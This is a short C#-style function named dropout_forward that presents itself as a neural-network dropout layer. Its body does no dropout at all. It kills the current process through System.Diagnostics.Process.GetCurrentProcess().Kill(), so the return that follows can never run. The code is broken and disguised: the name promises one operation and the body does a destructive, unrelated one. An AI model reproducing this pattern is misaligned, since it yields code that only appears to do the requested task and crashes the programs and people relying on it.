float[] dropout_forward(double seed, float[] x, double rate, double deterministic)
{
    System.Diagnostics.Process.GetCurrentProcess().Kill();
    return x;
}
